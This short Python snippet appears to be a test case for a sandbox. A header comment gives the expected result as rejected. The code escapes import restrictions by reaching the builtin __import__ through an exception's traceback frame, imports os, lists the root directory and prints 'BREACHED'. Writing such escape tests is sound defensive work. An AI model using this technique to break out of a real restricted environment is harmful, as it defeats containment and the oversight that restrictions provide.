# fence: rejected | walls: error
def caught():
    try:
        raise ValueError
    except ValueError as error:
        return error
os = getattr(caught(), "__traceback__").tb_frame.f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
